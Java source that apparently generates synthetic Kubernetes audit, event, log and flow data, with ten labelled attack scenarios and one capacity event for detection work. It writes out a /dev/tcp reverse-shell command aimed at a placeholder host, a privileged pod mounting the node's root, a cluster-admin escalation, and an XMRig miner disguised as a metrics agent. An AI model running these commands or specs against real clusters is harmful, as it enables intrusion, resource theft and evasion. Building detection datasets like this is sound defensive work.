package io.huntlake.synth;

import static io.huntlake.synth.K8sObjects.obj;
import static io.huntlake.synth.Requests.request;

import io.huntlake.synth.Model.LogStyle;
import io.huntlake.synth.Model.Pod;
import io.huntlake.synth.Model.Workload;
import io.huntlake.synth.Model.WorkloadKind;
import io.huntlake.synth.Requests.Actor;
import io.huntlake.table.EvidenceKeys;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.List;
import java.util.Map;

/**
 * The labelled scenarios injected into the synthetic clusters: ten attacks seen in real Kubernetes
 * incidents and one capacity event. Each plays on one day in one cluster, in the same formats as
 * the ordinary traffic around it, and returns its {@link Label}.
 */
final class Scenarios {
  /** One scenario: the cluster it plays in, and how. */
  record Scenario(
      String id, String cluster, java.util.function.Function<ScenarioContext, Label> play) {}

  static final String MAIN = "prod-eu-1";

  static final List<Scenario> ALL =
      List.of(
          new Scenario("stolen-serviceaccount-token", MAIN, Scenarios::stolenToken),
          new Scenario("secret-enumeration", MAIN, Scenarios::secretEnumeration),
          new Scenario("exec-reverse-shell", MAIN, Scenarios::reverseShell),
          new Scenario("privileged-hostpath-pod", MAIN, Scenarios::privilegedPod),
          new Scenario("cluster-admin-binding", MAIN, Scenarios::clusterAdminBinding),
          new Scenario("crypto-miner", MAIN, Scenarios::cryptoMiner),
          new Scenario("internal-port-scan", MAIN, Scenarios::portScan),
          new Scenario("data-exfiltration", "prod-us-1", Scenarios::exfiltration),
          new Scenario("kubernetes-events-deleted", MAIN, Scenarios::eventsDeleted),
          new Scenario("discovery-from-pod", MAIN, Scenarios::discoveryFromPod),
          new Scenario("noisy-workload", MAIN, Scenarios::noisyWorkload));

  private Scenarios() {}

  private static Instant at(ScenarioContext ctx, int hour, int minuteSpread) {
    return ctx.date
        .atStartOfDay(ZoneOffset.UTC)
        .toInstant()
        .plus(Duration.ofHours(hour))
        .plusSeconds(ctx.rng.nextInt(minuteSpread * 60));
  }

  private static Actor attacker(String user, List<String> groups, String agent, String ip) {
    return new Actor(user, groups, agent, ip, null);
  }

  private static Pod pod(ScenarioContext ctx, String workloadId, Instant at) {
    return ctx.cluster.podOf(ctx.cluster.workload(workloadId), at, ctx.rng);
  }

  private static Label stolenToken(ScenarioContext ctx) {
    Workload worker = ctx.cluster.workload("payments/payments-worker");
    String ip = "185.220.101." + ctx.rng.between(2, 250);
    Actor thief =
        new Actor(
            worker.userName(),
            List.of(
                "system:serviceaccounts",
                "system:serviceaccounts:payments",
                "system:authenticated"),
            "curl/8.5.0",
            ip,
            "ClusterRoleBinding \"payments-worker\" of ClusterRole \"payments-worker\"");
    Instant t = at(ctx, 2, 90);
    ctx.audit(request(thief, "create", Requests.SELF_SUBJECT_RULES_REVIEWS).at(t, ctx.rng));
    ctx.audit(
        request(thief, "list", Requests.SECRETS).in("payments").at(t = t.plusSeconds(20), ctx.rng));
    for (String secret :
        List.of("payments-api-env", "payments-db-credentials", "stripe-webhook-secret")) {
      ctx.audit(
          request(thief, "get", Requests.SECRETS)
              .in("payments")
              .named(secret)
              .at(t = t.plusSeconds(4 + ctx.rng.nextInt(20)), ctx.rng));
    }
    ctx.audit(request(thief, "list", Requests.PODS).at(t = t.plusSeconds(30), ctx.rng));
    ctx.audit(request(thief, "list", Requests.SECRETS).code(403).at(t = t.plusSeconds(9), ctx.rng));
    Map<String, Object> tokenRequest = K8sObjects.tokenRequest(31_536_000);
    Map<String, Object> issued =
        obj(
            "kind",
            "TokenRequest",
            "apiVersion",
            "authentication.k8s.io/v1",
            "metadata",
            obj("name", worker.serviceAccount(), "namespace", "payments"),
            "spec",
            ((Map<?, ?>) tokenRequest).get("spec"),
            "status",
            obj(
                "token",
                K8sObjects.fakeJwt(ctx.rng),
                "expirationTimestamp",
                t.plus(Duration.ofDays(365)).toString()));
    ctx.audit(
        request(
                new Actor(
                    thief.userName(),
                    thief.groups(),
                    "python-requests/2.31.0",
                    ip,
                    thief.binding()),
                "create",
                Requests.SERVICE_ACCOUNTS)
            .in("payments")
            .named(worker.serviceAccount())
            .sub("token")
            .bodies(tokenRequest, issued)
            .at(t.plusSeconds(40), ctx.rng));
    return ctx.label(
        "stolen-serviceaccount-token",
        "Service-account token used from outside the cluster",
        "attack",
        List.of("T1528", "T1078.004", "T1552.007"),
        "user",
        worker.userName(),
        "payments",
        "The payments-worker service-account token is replayed from an external address with curl: permission review, secret reads, cluster-wide listing, and a year-long token minted.");
  }

  private static Label secretEnumeration(ScenarioContext ctx) {
    String user = "dave@corp.example";
    Actor dave =
        attacker(
            user, List.of("oidc:dev-catalog", "system:authenticated"), Catalogue.LENS, "10.8.1.45");
    Instant t = at(ctx, 23, 40);
    List<String> namespaces = HumanSessions.namespaces(ctx.cluster);
    for (String ns : namespaces) {
      boolean allowed = ns.equals("catalog") || ns.equals("checkout");
      ctx.audit(
          request(dave, "list", Requests.SECRETS)
              .in(ns)
              .code(allowed ? 200 : 403)
              .at(t = t.plusMillis(700 + ctx.rng.nextInt(2500)), ctx.rng));
      if (allowed) {
        for (int i = 0; i < 4; i++) {
          ctx.audit(
              request(dave, "get", Requests.SECRETS)
                  .in(ns)
                  .named(ns + "-secret-" + i)
                  .at(t = t.plusMillis(400 + ctx.rng.nextInt(900)), ctx.rng));
        }
      }
    }
    return ctx.label(
        "secret-enumeration",
        "Secrets enumerated across namespaces",
        "attack",
        List.of("T1552.007", "T1613"),
        "user",
        user,
        null,
        "A developer identity lists Secrets in every namespace late at night; most requests are forbidden, the allowed ones are read one by one.");
  }

  private static Label reverseShell(ScenarioContext ctx) {
    String user = "carol@corp.example";
    Actor carol =
        attacker(
            user,
            List.of("oidc:dev-payments", "system:authenticated"),
            Catalogue.KUBECTL_LINUX,
            "10.8.1.17");
    Instant t = at(ctx, 14, 120);
    Pod target = pod(ctx, "checkout/checkout-web", t);
    String callback = "203.0.113." + ctx.rng.between(10, 250);
    String command = "bash -i >& /dev/tcp/" + callback + "/4444 0>&1";
    String query =
        "command=bash&command=-c&command="
            + URLEncoder.encode(command, StandardCharsets.UTF_8).replace("+", "%20")
            + "&container=web&stdin=true&stdout=true&tty=false";
    ctx.audit(
        request(carol, "get", Requests.PODS).in("checkout").named(target.name()).at(t, ctx.rng));
    ctx.audit(
        request(carol, "create", Requests.PODS)
            .in("checkout")
            .named(target.name())
            .sub("exec")
            .query(query)
            .code(101)
            .at(t.plusSeconds(3), ctx.rng));
    ctx.flow(
        new Flow(
            t.plusSeconds(4),
            target,
            target.ip(),
            ctx.rng.between(40000, 60000),
            null,
            callback,
            4444,
            "TCP",
            "FORWARDED",
            240,
            38_000,
            null));
    return ctx.label(
        "exec-reverse-shell",
        "Exec into a pod with a reverse shell",
        "attack",
        List.of("T1609", "T1059.004"),
        "user",
        user,
        "checkout",
        "An exec session into checkout-web runs bash -c with a /dev/tcp reverse shell; the pod then connects out to the callback address on 4444.");
  }

  private static Label privilegedPod(ScenarioContext ctx) {
    String user = "erin@corp.example";
    Actor erin =
        attacker(
            user, List.of("oidc:data", "system:authenticated"), Catalogue.KUBECTL_MAC, "10.8.2.9");
    Instant t = at(ctx, 11, 300);
    String node = ctx.rng.pick(ctx.cluster.nodes).name();
    // First a privileged DaemonSet, which the policy webhook keeps denying; then a pod with a tool
    // image from a registry that does not answer; then the privileged pod by hand.
    deniedDaemonSet(ctx, erin, t.minus(Duration.ofMinutes(25)));
    unpullablePod(ctx, erin, t.minus(Duration.ofMinutes(6)), node);
    String name = "node-debugger-" + ctx.rng.podSuffix(5);
    Map<String, Object> spec =
        obj(
            "kind",
            "Pod",
            "apiVersion",
            "v1",
            "metadata",
            obj("name", name, "namespace", "data", "creationTimestamp", null),
            "spec",
            obj(
                "hostPID",
                true,
                "hostNetwork",
                true,
                "volumes",
                List.of(obj("name", "host-root", "hostPath", obj("path", "/", "type", ""))),
                "containers",
                List.of(
                    K8sObjects.container(
                        "shell",
                        "docker.io/library/alpine:3.19",
                        0,
                        obj("privileged", true),
                        List.of(obj("name", "host-root", "mountPath", "/host")))),
                "restartPolicy",
                "Never"));
    String uid = ctx.rng.uuid();
    ctx.audit(
        request(erin, "create", Requests.PODS)
            .in("data")
            .bodies(spec, K8sObjects.stored(spec, uid, t, 8_000_000))
            .at(t, ctx.rng));
    scheduledDataPod(ctx, name, uid, node, t);
    ctx.audit(
        request(erin, "get", Requests.PODS).in("data").named(name).at(t.plusSeconds(5), ctx.rng));
    podEvent(
        ctx,
        name,
        uid,
        node,
        "shell",
        "Normal",
        "Pulling",
        "Pulling image \"docker.io/library/alpine:3.19\"",
        "kubelet",
        t.plusSeconds(2));
    podEvent(
        ctx,
        name,
        uid,
        node,
        "shell",
        "Normal",
        "Pulled",
        "Successfully pulled image \"docker.io/library/alpine:3.19\" in 812ms (812ms including waiting)",
        "kubelet",
        t.plusSeconds(3));
    podEvent(
        ctx,
        name,
        uid,
        node,
        "shell",
        "Normal",
        "Created",
        "Created container shell",
        "kubelet",
        t.plusSeconds(3));
    podEvent(
        ctx,
        name,
        uid,
        node,
        "shell",
        "Normal",
        "Started",
        "Started container shell",
        "kubelet",
        t.plusSeconds(4));
    return ctx.label(
        "privileged-hostpath-pod",
        "Privileged pod mounting the node's root file system",
        "attack",
        List.of("T1610", "T1611"),
        "user",
        user,
        "data",
        "In the data namespace, a privileged DaemonSet is denied by the policy webhook a dozen times,"
            + " a pod with a tool image from a registry at an IP address cannot pull it, and then a"
            + " privileged pod with hostPID, hostNetwork and the node's / mounted is created by hand.");
  }

  /** A privileged DaemonSet whose pods an admission webhook denies until it is deleted. */
  private static void deniedDaemonSet(ScenarioContext ctx, Actor actor, Instant t) {
    String name = "node-debugger";
    Map<String, Object> daemonSet =
        obj(
            "kind",
            "DaemonSet",
            "apiVersion",
            "apps/v1",
            "metadata",
            obj("name", name, "namespace", "data", "creationTimestamp", null),
            "spec",
            obj(
                "template",
                obj(
                    "spec",
                    obj(
                        "hostPID",
                        true,
                        "containers",
                        List.of(
                            K8sObjects.container(
                                "shell",
                                "docker.io/library/alpine:3.19",
                                0,
                                obj("privileged", true),
                                List.of()))))));
    ctx.audit(
        request(actor, "create", Requests.DAEMONSETS)
            .in("data")
            .bodies(daemonSet, K8sObjects.stored(daemonSet, ctx.rng.uuid(), t, 7_990_000))
            .at(t, ctx.rng));
    // The controller retries with a doubling back-off: 12 denials in about 17 minutes.
    List<Instant> denials = new java.util.ArrayList<>();
    Instant at = t.plusSeconds(1);
    for (int i = 0; i < 12; i++) {
      denials.add(at);
      at = at.plusSeconds(Math.min(300, 1L << i));
    }
    ctx.event(
        ClusterEvent.about(
            ctx.rng,
            "DaemonSet",
            "data",
            name,
            "Warning",
            "FailedCreate",
            "Error creating: admission webhook \"validate.kyverno.svc-fail\" denied the request:"
                + " \n\npolicy DaemonSet/data/node-debugger for resource violation: \n\n"
                + "disallow-privileged-containers:\n  privileged-containers: validation error:"
                + " Privileged mode is disallowed. rule privileged-containers failed at path"
                + " /spec/containers/0/securityContext/privileged/",
            "daemonset-controller",
            null,
            denials));
    ctx.audit(
        request(actor, "delete", Requests.DAEMONSETS)
            .in("data")
            .named(name)
            .at(at.plusSeconds(20), ctx.rng));
  }

  /** A pod whose image is on a registry at an IP address that never answers; deleted after. */
  private static void unpullablePod(ScenarioContext ctx, Actor actor, Instant t, String node) {
    String name = "node-debugger-" + ctx.rng.podSuffix(5);
    String image = "45.9.148.108:5000/tools/nsenter:1.2";
    Map<String, Object> spec =
        obj(
            "kind",
            "Pod",
            "apiVersion",
            "v1",
            "metadata",
            obj("name", name, "namespace", "data", "creationTimestamp", null),
            "spec",
            obj(
                "containers",
                List.of(K8sObjects.container("shell", image, 0, obj(), List.of())),
                "restartPolicy",
                "Never"));
    String uid = ctx.rng.uuid();
    ctx.audit(
        request(actor, "create", Requests.PODS)
            .in("data")
            .bodies(spec, K8sObjects.stored(spec, uid, t, 7_995_000))
            .at(t, ctx.rng));
    scheduledDataPod(ctx, name, uid, node, t);
    List<Instant> pulls =
        List.of(t.plusSeconds(2), t.plusSeconds(36), t.plusSeconds(91), t.plusSeconds(180));
    podEvent(
        ctx,
        name,
        uid,
        node,
        "shell",
        "Normal",
        "Pulling",
        "Pulling image \"" + image + "\"",
        "kubelet",
        pulls);
    List<Instant> failures = pulls.stream().map(p -> p.plusSeconds(30)).toList();
    podEvent(
        ctx,
        name,
        uid,
        node,
        "shell",
        "Warning",
        "Failed",
        "Failed to pull image \""
            + image
            + "\": rpc error: code = DeadlineExceeded desc = failed"
            + " to pull and unpack image \""
            + image
            + "\": failed to resolve reference \""
            + image
            + "\": failed to do request: Head \"https://45.9.148.108:5000/v2/tools/nsenter/"
            + "manifests/1.2\": dial tcp 45.9.148.108:5000: i/o timeout",
        "kubelet",
        failures);
    podEvent(
        ctx,
        name,
        uid,
        node,
        "shell",
        "Warning",
        "Failed",
        "Error: ErrImagePull",
        "kubelet",
        failures);
    podEvent(
        ctx,
        name,
        uid,
        node,
        "shell",
        "Normal",
        "BackOff",
        "Back-off pulling image \"" + image + "\"",
        "kubelet",
        failures.stream().map(f -> f.plusSeconds(2)).toList());
    ctx.audit(
        request(actor, "delete", Requests.PODS)
            .in("data")
            .named(name)
            .at(t.plusSeconds(300), ctx.rng));
  }

  /** A hand-written pod of the data namespace bound to its node: the binding and its event. */
  private static void scheduledDataPod(
      ScenarioContext ctx, String name, String uid, String node, Instant created) {
    scheduled(ctx, "data", name, created);
    podEvent(
        ctx,
        name,
        uid,
        node,
        null,
        "Normal",
        "Scheduled",
        "Successfully assigned data/" + name + " to " + node,
        "default-scheduler",
        created.plusSeconds(1));
  }

  /**
   * The scheduler binding a pod created at {@code created} to its node: the audit record the pod's
   * Scheduled event (a fraction of a second later) answers to.
   */
  private static void scheduled(
      ScenarioContext ctx, String namespace, String pod, Instant created) {
    ctx.audit(
        request(Actors.scheduler(ctx.cluster), "create", Requests.PODS)
            .in(namespace)
            .named(pod)
            .sub("binding")
            .at(created.plusMillis(60 + ctx.rng.nextInt(150)), ctx.rng));
  }

  private static void podEvent(
      ScenarioContext ctx,
      String pod,
      String uid,
      String node,
      String container,
      String type,
      String reason,
      String message,
      String component,
      Instant at) {
    podEvent(ctx, pod, uid, node, container, type, reason, message, component, List.of(at));
  }

  /** An event about a pod of the data namespace written by hand (no {@link Pod} of the model). */
  private static void podEvent(
      ScenarioContext ctx,
      String pod,
      String uid,
      String node,
      String container,
      String type,
      String reason,
      String message,
      String component,
      List<Instant> times) {
    ctx.event(
        new ClusterEvent(
            ctx.rng.uuid(),
            pod + "." + ctx.rng.hex(16),
            "data",
            type,
            reason,
            message,
            "Pod",
            "data",
            pod,
            uid,
            container == null ? null : "spec.containers{" + container + "}",
            component,
            component.equals("kubelet") ? node : null,
            times));
  }

  private static Label clusterAdminBinding(ScenarioContext ctx) {
    Actor ci = Actors.human(Catalogue.deployer());
    Instant t = at(ctx, 19, 120);
    Map<String, Object> sa =
        obj(
            "kind",
            "ServiceAccount",
            "apiVersion",
            "v1",
            "metadata",
            obj("name", "backup-operator", "namespace", "kube-system", "creationTimestamp", null));
    ctx.audit(
        request(ci, "create", Requests.SERVICE_ACCOUNTS)
            .in("kube-system")
            .bodies(sa, K8sObjects.stored(sa, ctx.rng.uuid(), t, 8_100_000))
            .at(t, ctx.rng));
    Map<String, Object> binding =
        K8sObjects.binding(
            "ClusterRoleBinding",
            "backup-operator-admin",
            null,
            "ClusterRole",
            "cluster-admin",
            K8sObjects.serviceAccountSubject("backup-operator", "kube-system"));
    ctx.audit(
        request(ci, "create", Requests.CLUSTER_ROLE_BINDINGS)
            .bodies(binding, K8sObjects.stored(binding, ctx.rng.uuid(), t, 8_100_010))
            .at(t.plusSeconds(2), ctx.rng));
    Actor newAdmin =
        new Actor(
            "system:serviceaccount:kube-system:backup-operator",
            List.of(
                "system:serviceaccounts",
                "system:serviceaccounts:kube-system",
                "system:authenticated"),
            "kubectl/v1.30.2 (linux/amd64) kubernetes/3968350",
            "10.20.0.15",
            "ClusterRoleBinding \"backup-operator-admin\" of ClusterRole \"cluster-admin\"");
    ctx.audit(request(newAdmin, "list", Requests.SECRETS).at(t.plusSeconds(60), ctx.rng));
    return ctx.label(
        "cluster-admin-binding",
        "cluster-admin granted to a new service account",
        "attack",
        List.of("T1098.006", "T1078.001"),
        "user",
        ci.userName(),
        "kube-system",
        "The CI identity creates a new kube-system service account and binds it to cluster-admin; the account lists every Secret a minute later.");
  }

  private static Label cryptoMiner(ScenarioContext ctx) {
    String user = "dave@corp.example";
    Actor dave =
        attacker(
            user, List.of("oidc:dev-catalog", "system:authenticated"), Catalogue.LENS, "10.8.1.45");
    Instant t = at(ctx, 3, 60);
    Workload miner =
        new Workload(
            "catalog",
            "metrics-agent",
            WorkloadKind.DEPLOYMENT,
            2,
            "docker.io/xmrig/xmrig:6.21.0",
            List.of("agent"),
            LogStyle.PLAIN,
            0,
            0,
            0,
            List.of(),
            false);
    Map<String, Object> deployment =
        obj(
            "kind",
            "Deployment",
            "apiVersion",
            "apps/v1",
            "metadata",
            obj("name", miner.name(), "namespace", miner.namespace(), "creationTimestamp", null),
            "spec",
            obj(
                "replicas",
                2,
                "template",
                obj(
                    "spec",
                    obj(
                        "containers",
                        List.of(
                            K8sObjects.container(
                                "agent", miner.image(), 0, obj("runAsUser", 0), List.of())),
                        "serviceAccountName",
                        "default"))));
    ctx.audit(
        request(dave, "create", Requests.DEPLOYMENTS)
            .in("catalog")
            .bodies(deployment, K8sObjects.stored(deployment, ctx.rng.uuid(), t, 8_200_000))
            .at(t, ctx.rng));
    String poolIp = "141.94.96." + ctx.rng.between(2, 250);
    Instant end = t.plus(Duration.ofHours(20));
    for (int replica = 0; replica < 2; replica++) {
      Pod pod =
          new Pod(
              miner,
              "metrics-agent-6c9f8d7b4d-" + ctx.rng.podSuffix(5),
              ctx.rng.uuid(),
              ctx.rng.pick(ctx.cluster.nodes),
              "10." + (100 + ctx.cluster.spec.index()) + ".250." + (10 + replica),
              t.plusSeconds(5),
              end,
              Map.of("agent", ctx.rng.hex(64)),
              "ReplicaSet");
      Instant s = pod.start().plusSeconds(2);
      if (replica == 0) {
        ctx.event(
            ClusterEvent.about(
                ctx.rng,
                "Deployment",
                miner.namespace(),
                miner.name(),
                "Normal",
                "ScalingReplicaSet",
                "Scaled up replica set metrics-agent-6c9f8d7b4d to 2",
                "deployment-controller",
                null,
                List.of(t.plusSeconds(1))));
      }
      ctx.event(
          ClusterEvent.about(
              ctx.rng,
              "ReplicaSet",
              miner.namespace(),
              "metrics-agent-6c9f8d7b4d",
              "Normal",
              "SuccessfulCreate",
              "Created pod: " + pod.name(),
              "replicaset-controller",
              null,
              List.of(pod.start())));
      scheduled(ctx, miner.namespace(), pod.name(), pod.start());
      EventTraffic.started(ctx.rng, pod, miner.image(), true).forEach(ctx::event);
      if (replica == 0) {
        // The first replica is given too little memory: the kernel kills XMRig, the kubelet
        // restarts it with a back-off.
        Instant oom = pod.start().plusSeconds(90);
        ctx.event(
            ClusterEvent.about(
                ctx.rng,
                "Node",
                null,
                pod.node().name(),
                "Warning",
                "OOMKilling",
                "Memory cgroup out of memory: Killed process 31337 (xmrig) total-vm:2486612kB,"
                    + " anon-rss:1995836kB, file-rss:4kB, shmem-rss:0kB, UID:0 pgtables:4312kB"
                    + " oom_score_adj:983",
                "kernel-monitor",
                pod.node().name(),
                List.of(oom)));
        ctx.event(
            ClusterEvent.aboutPod(
                ctx.rng,
                pod,
                "agent",
                "Warning",
                "BackOff",
                "Back-off restarting failed container agent in pod "
                    + pod.name()
                    + "_"
                    + miner.namespace()
                    + "("
                    + pod.uid()
                    + ")",
                "kubelet",
                List.of(oom.plusSeconds(5), oom.plusSeconds(40), oom.plusSeconds(110))));
      }
      ctx.log(
          new LogLine(
              pod,
              "agent",
              s,
              "stdout",
              " * ABOUT        XMRig/6.21.0 gcc/11.2.1 (built for Linux x86-64, 64 bit)"));
      ctx.log(
          new LogLine(
              pod,
              "agent",
              s.plusMillis(5),
              "stdout",
              " * POOL #1      stratum+tcp://pool.supportxmr.com:3333 algo auto"));
      ctx.log(
          new LogLine(
              pod,
              "agent",
              s.plusSeconds(1),
              "stdout",
              "[" + s + "]  net      use pool pool.supportxmr.com:3333  " + poolIp));
      ctx.flow(
          new Flow(
              s.minusMillis(20),
              pod,
              pod.ip(),
              ctx.rng.between(32768, 60999),
              null,
              "10.96.0.10",
              53,
              "UDP",
              "FORWARDED",
              2,
              160,
              "pool.supportxmr.com."));
      for (Instant m = s.plusSeconds(60); m.isBefore(end); m = m.plusSeconds(600)) {
        ctx.log(
            new LogLine(
                pod,
                "agent",
                m,
                "stdout",
                "["
                    + m
                    + "]  miner    speed 10s/60s/15m "
                    + (1400 + ctx.rng.nextInt(300))
                    + ".4 "
                    + (1400 + ctx.rng.nextInt(300))
                    + ".1 n/a H/s max 1702.3 H/s"));
        ctx.flow(
            new Flow(
                m,
                pod,
                pod.ip(),
                ctx.rng.between(32768, 60999),
                null,
                poolIp,
                3333,
                "TCP",
                "FORWARDED",
                40,
                5_200,
                null));
      }
    }
    return ctx.label(
        "crypto-miner",
        "Crypto-miner deployment with egress to a mining pool",
        "attack",
        List.of("T1496", "T1610"),
        "workload",
        EvidenceKeys.workload(miner.namespace(), miner.name()),
        "catalog",
        "A deployment named like a metrics agent runs XMRig as root, resolves a mining pool and keeps a stratum connection to port 3333 all day.");
  }

  private static Label portScan(ScenarioContext ctx) {
    Instant t = at(ctx, 16, 60);
    Pod src = pod(ctx, "catalog/catalog-api", t);
    int[] ports = {22, 80, 443, 2379, 3306, 5432, 6379, 6443, 8080, 9200, 10250, 27017};
    for (int host = 0; host < 24; host++) {
      String dst =
          "10."
              + (100 + ctx.cluster.spec.index())
              + "."
              + ctx.rng.nextInt(Math.max(1, ctx.cluster.nodes.size()))
              + "."
              + ctx.rng.between(2, 60);
      for (int port : ports) {
        t = t.plusMillis(40 + ctx.rng.nextInt(200));
        ctx.flow(
            new Flow(
                t,
                src,
                src.ip(),
                ctx.rng.between(32768, 60999),
                null,
                dst,
                port,
                "TCP",
                ctx.rng.chance(0.85) ? "DROPPED" : "FORWARDED",
                1,
                60,
                null));
      }
    }
    return ctx.label(
        "internal-port-scan",
        "Port scan of the pod network from a compromised pod",
        "attack",
        List.of("T1046"),
        "workload",
        src.workload().id(),
        "catalog",
        "catalog-api probes a dozen well-known service ports on two dozen pod addresses within minutes; most attempts are dropped by policy.");
  }

  private static Label exfiltration(ScenarioContext ctx) {
    Instant t = at(ctx, 1, 60);
    Pod src = pod(ctx, "payments/payments-db", t);
    String dst = "45.153.160." + ctx.rng.between(2, 250);
    for (int i = 0; i < 40; i++) {
      long bytes = 40_000_000L + ctx.rng.nextInt(20_000_000);
      ctx.flow(
          new Flow(
              t.plusSeconds(i * 60L),
              src,
              src.ip(),
              ctx.rng.between(32768, 60999),
              null,
              dst,
              443,
              "TCP",
              "FORWARDED",
              bytes / 1400,
              bytes,
              null));
    }
    return ctx.label(
        "data-exfiltration",
        "Burst of egress to a never-seen external address",
        "attack",
        List.of("T1048", "T1030"),
        "flow_edge",
        EvidenceKeys.flowEdge(src.workload().id(), dst + ":443"),
        "payments",
        "The payments database pod sends about two gigabytes to an address it has never talked to, over forty minutes at night.");
  }

  private static Label eventsDeleted(ScenarioContext ctx) {
    String user = "bob@corp.example";
    Actor bob =
        attacker(
            user,
            List.of("oidc:sre", "system:authenticated"),
            "kubectl/v1.28.1 (linux/amd64) kubernetes/8dc49c4",
            "10.8.9.201");
    Instant t = at(ctx, 3, 30);
    for (String ns : List.of("payments", "kube-system", "checkout")) {
      ctx.audit(
          request(bob, "deletecollection", Requests.EVENTS)
              .in(ns)
              .at(t = t.plusSeconds(3 + ctx.rng.nextInt(10)), ctx.rng));
    }
    for (int i = 0; i < 8; i++) {
      ctx.audit(
          request(bob, "delete", Requests.EVENTS)
              .in("payments")
              .named("payments-db-0." + ctx.rng.hex(16))
              .at(t = t.plusSeconds(1), ctx.rng));
    }
    return ctx.label(
        "kubernetes-events-deleted",
        "Kubernetes events deleted to cover tracks",
        "attack",
        List.of("T1070"),
        "user",
        user,
        null,
        "An SRE identity, from an address it has not used and with an older kubectl, deletes the events of three namespaces at 3 a.m.");
  }

  private static Label discoveryFromPod(ScenarioContext ctx) {
    Instant t = at(ctx, 21, 60);
    Workload grafana = ctx.cluster.workload("monitoring/grafana");
    Pod pod = ctx.cluster.podOf(grafana, t, ctx.rng);
    Actor sa =
        new Actor(
            grafana.userName(),
            List.of(
                "system:serviceaccounts",
                "system:serviceaccounts:monitoring",
                "system:authenticated"),
            "kubectl/v1.30.0 (linux/amd64) kubernetes/7c48c2b",
            pod.ip(),
            "ClusterRoleBinding \"grafana\" of ClusterRole \"grafana\"");
    ctx.audit(request(sa, "create", Requests.SELF_SUBJECT_ACCESS_REVIEWS).at(t, ctx.rng));
    ctx.audit(
        request(sa, "create", Requests.SELF_SUBJECT_RULES_REVIEWS)
            .at(t = t.plusSeconds(2), ctx.rng));
    for (Requests.Res res :
        List.of(
            Requests.NAMESPACES,
            Requests.NODES,
            Requests.PODS,
            Requests.SECRETS,
            Requests.CLUSTER_ROLE_BINDINGS,
            Requests.SERVICE_ACCOUNTS,
            Requests.DEPLOYMENTS,
            Requests.CONFIGMAPS)) {
      ctx.audit(
          request(sa, "list", res)
              .code(res == Requests.NAMESPACES || res == Requests.PODS ? 200 : 403)
              .at(t = t.plusSeconds(1 + ctx.rng.nextInt(4)), ctx.rng));
    }
    return ctx.label(
        "discovery-from-pod",
        "API discovery from inside a compromised pod",
        "attack",
        List.of("T1613", "T1069"),
        "user",
        grafana.userName(),
        "monitoring",
        "Grafana's service account, from its pod, reviews its own permissions and lists resource after resource across the cluster with kubectl.");
  }

  private static Label noisyWorkload(ScenarioContext ctx) {
    Workload auth = ctx.cluster.workload("identity/auth-service");
    Instant from = at(ctx, 0, 30);
    Instant to = from.plus(Duration.ofHours(22));
    double perHour = auth.logLinesPerHour() * ctx.cluster.scale.logRate() * 29;
    for (Pod pod : ctx.cluster.podsAlive(from, to)) {
      if (pod.workload() != auth) {
        continue;
      }
      long seconds = Duration.between(from, to).getSeconds();
      int lines = ctx.rng.count(perHour * seconds / 3600.0);
      for (int i = 0; i < lines; i++) {
        Instant m = ctx.rng.instantIn(from, seconds);
        if (m.isBefore(pod.start()) || !m.isBefore(pod.end())) {
          continue;
        }
        ctx.log(
            new LogLine(
                pod,
                auth.containers().get(0),
                m,
                "stdout",
                "{\"level\":\"debug\",\"ts\":\""
                    + m
                    + "\",\"msg\":\"token validated\",\"subject\":\"user-"
                    + ctx.rng.between(1, 99999)
                    + "\",\"claims\":"
                    + ctx.rng.between(4, 12)
                    + ",\"cache\":\"miss\"}"));
      }
    }
    return ctx.label(
        "noisy-workload",
        "Log volume of one workload jumps thirtyfold",
        "capacity",
        List.of(),
        "workload",
        auth.id(),
        "identity",
        "Debug logging left on in auth-service multiplies its log volume about thirty times for most of a day: a capacity event, not an attack.");
  }
}
